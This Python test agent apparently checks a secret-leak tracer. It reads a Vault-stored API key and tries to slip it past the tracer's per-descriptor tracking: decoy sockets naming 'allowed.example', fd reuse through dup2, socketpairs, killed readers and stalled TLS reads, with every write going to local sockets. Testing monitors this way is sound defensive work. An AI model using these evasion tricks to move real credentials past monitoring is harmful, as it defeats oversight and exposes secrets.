#!/usr/bin/python3
"""e2e agent: a hostile process attacking the tracer's per-descriptor and per-process state.
usage: py_hostile_procs.py churn VAULT_URL TOKEN_FILE DECOY_PORT PORT ROUNDS
           reads a KV secret, then ROUNDS times: a socket to DECOY_PORT duplicated over fd
           100 gets an HTTP request naming "allowed.example" (the tracer learns the host of
           fd 100), then a socket to PORT duplicated over fd 100 gets the secret; sockets are
           opened and closed in between so that fd numbers are reused
       py_hostile_procs.py unixdup VAULT_URL TOKEN_FILE SOCKET_PATH ROUNDS
           reads a KV secret, then ROUNDS times: a socket on fd 100 connected to its own
           unix server at SOCKET_PATH gets the secret, then one end of a
           socketpair (no address) duplicated over fd 100 gets it too
       py_hostile_procs.py vanish READY
           runs its own fake "Vault"; a child fetches one secret from it, the answer stops in
           the middle of the value; once the child has read that half (it creates READY),
           it is killed. Prints the value's first half, then the whole value's length
       py_hostile_procs.py tlsstuck CERT KEY THREADS READY GO
           runs its own fake "Vault" over TLS (CERT, KEY), which reads a request and never
           answers; a child sends it a Vault request and THREADS threads read the session's
           answer (all stuck in SSL_read); READY gets the child's PID once the threads are
           started; the child is killed by whoever reads READY; exits once GO exists
       py_hostile_procs.py spray VAULT_URL TOKEN_FILE SECONDS [STARTED]
           reads a KV secret, then writes it to /dev/null as fast as it can for SECONDS
           (creating STARTED after the first second)"""
import http.server
import json
import os
import secrets
import signal
import socket
import ssl
import sys
import threading
import time
import urllib.request

FD = 100


def kv(vault, token_file, path="secret/data/agent/openai", field="api_key"):
    with open(token_file) as f:
        token = f.read().strip()
    req = urllib.request.Request(vault + "/v1/" + path, headers={"X-Vault-Token": token})
    with urllib.request.urlopen(req, timeout=30) as resp:
        return json.loads(resp.read())["data"]["data"][field]


def over_fd(port):
    """A socket to port, duplicated over FD (which closes what FD was), its own fd closed."""
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    os.dup2(s.fileno(), FD)
    s.close()


def churn(vault, token_file, decoy, port, rounds):
    value = kv(vault, token_file)
    for i in range(rounds):
        over_fd(decoy)
        os.write(FD, b"GET /hello HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
        spare = [socket.socket() for _ in range(i % 5)]     # fd numbers shift and are reused
        over_fd(port)
        os.write(FD, ("key=%s\n" % value).encode())
        for s in spare:
            s.close()
    os.close(FD)


def unixdup(vault, token_file, path, rounds):
    value = ("key=%s\n" % kv(vault, token_file)).encode()
    lsn = socket.socket(socket.AF_UNIX)
    lsn.bind(path)
    lsn.listen(8)

    def drain():
        while True:
            c = lsn.accept()[0]
            while c.recv(65536):
                pass
            c.close()
    threading.Thread(target=drain, daemon=True).start()
    for _ in range(rounds):
        s = socket.socket(socket.AF_UNIX)
        os.dup2(s.fileno(), FD)
        s.close()
        s = socket.socket(socket.AF_UNIX, fileno=FD)    # connect(2) on fd 100 itself
        s.connect(path)
        s.detach()
        os.write(FD, value)
        a, b = socket.socketpair()
        os.dup2(a.fileno(), FD)     # closes the named connection: no connect, no close(FD)
        a.close()
        os.write(FD, value)
        assert b.recv(65536) == value
        b.close()
    os.close(FD)


def vanish(ready):
    value = secrets.token_urlsafe(24)
    half = len(value) // 2
    body = json.dumps({"request_id": "00000000-0000-4000-8000-000000000001", "lease_id": "",
                       "renewable": False, "lease_duration": 0,
                       "data": {"data": {"token": value}, "metadata": {"version": 1}},
                       "wrap_info": None, "warnings": None, "auth": None}).encode()
    cut = body.index(value.encode()) + half
    gone = threading.Event()

    class H(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body[:cut])
            self.wfile.flush()
            gone.wait(30)       # the rest never comes: the reader is killed first

        def log_message(self, *a):
            pass
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    pid = os.fork()
    if pid == 0:    # the reader: raw socket reads, so that what it has read is known
        s = socket.create_connection(("127.0.0.1", srv.server_address[1]), timeout=30)
        s.sendall(b"GET /v1/secret/data/vanish HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                  b"X-Vault-Token: hvs.vanishing-reader\r\n\r\n")
        got = b""
        while value[:half].encode() not in got:
            got += s.recv(65536)
        open(ready, "w").close()
        time.sleep(60)
        os._exit(1)
    while not os.path.exists(ready):
        time.sleep(0.01)
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    gone.set()
    srv.shutdown()
    print(value[:half])
    print(len(value))


def tlsstuck(cert, key, threads, ready, go):
    sctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    sctx.load_cert_chain(cert, key)
    # no TLS 1.3 session tickets: sent after the handshake, they would be read by the
    # threads at once, whose races on the one session fail their reads (WRONG_VERSION_NUMBER)
    sctx.num_tickets = 0
    lsn = socket.create_server(("127.0.0.1", 0))
    port = lsn.getsockname()[1]
    pid = os.fork()
    if pid == 0:    # the reader: blocking reads (no timeout), so each stays inside SSL_read
        cctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        cctx.check_hostname = False
        cctx.verify_mode = ssl.CERT_NONE     # its own fake: nothing to verify
        s = cctx.wrap_socket(socket.create_connection(("127.0.0.1", port)))
        s.settimeout(None)
        s.sendall(b"GET /v1/secret/data/stuck HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                  b"X-Vault-Token: hvs.stuck-reader\r\n\r\n")
        threading.stack_size(256 * 1024)
        for _ in range(threads):
            threading.Thread(target=s.recv, args=(65536,), daemon=True).start()
        with open(ready + ".tmp", "w") as f:
            f.write(str(os.getpid()))
        os.rename(ready + ".tmp", ready)
        time.sleep(120)
        os._exit(1)
    c = sctx.wrap_socket(lsn.accept()[0], server_side=True)
    c.recv(65536)   # the request; the answer never comes
    os.waitpid(pid, 0)
    while not os.path.exists(go):
        time.sleep(0.01)


def spray(vault, token_file, seconds, started):
    value = ("key=%s\n" % kv(vault, token_file)).encode()
    fd = os.open("/dev/null", os.O_WRONLY)
    t0 = time.monotonic()
    n = 0
    while time.monotonic() - t0 < seconds:
        os.write(fd, value)
        n += 1
        if started and n == 1000:
            open(started, "w").close()
    print(n)


def main():
    mode, a = sys.argv[1], sys.argv[2:]
    if mode == "churn":
        churn(a[0], a[1], int(a[2]), int(a[3]), int(a[4]))
    elif mode == "unixdup":
        unixdup(a[0], a[1], a[2], int(a[3]))
    elif mode == "vanish":
        vanish(a[0])
    elif mode == "tlsstuck":
        tlsstuck(a[0], a[1], int(a[2]), a[3], a[4])
    else:
        spray(a[0], a[1], float(a[2]), a[3] if len(a) > 3 else None)


main()
